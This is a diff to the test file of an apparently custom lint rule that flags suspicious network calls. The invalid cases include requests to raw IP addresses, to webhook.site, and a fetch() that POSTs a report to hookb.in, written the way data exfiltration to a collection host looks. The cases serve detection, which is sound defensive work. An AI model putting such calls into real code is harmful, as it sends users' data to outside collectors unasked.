@@ -102,6 +102,8 @@ await ruleTester(rule, {
     { code: `const dsn = process.env.SENTRY_DSN; Sentry.init({ dsn, environment: 'x', tunnel: '/monitoring' }); import * as Sentry from '@sentry/browser';` },
   ],
   invalid: [
+    { code: 'import { HttpClient } from "@angular/common/http"; class Api { constructor(private http: HttpClient) {} load() { return this.http.get("http://45.33.32.1/a"); } }', filename: 'src/api.ts', errors: [{ messageId: 'address' }] },
+    { code: 'fetch("https://hookb.in/abc", { method: "POST", body: report });', errors: [{ messageId: 'collection' }] },
     { code: 'fetch("https://webhook.site./x");', errors: [{ messageId: 'collection', data: { label: 'fetch()', host: 'webhook.site' } }] },
     { code: 'import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js"; new StreamableHTTPClientTransport(new URL("http://mcp.example-service.com/mcp"));', errors: [{ messageId: 'plain', data: { label: 'new StreamableHTTPClientTransport()', host: 'mcp.example-service.com' } }] },
     { code: 'import axios from "axios"; export const api = axios.create({ baseURL: "http://34.118.22.9:8081" });', errors: [{ messageId: 'address' }] },
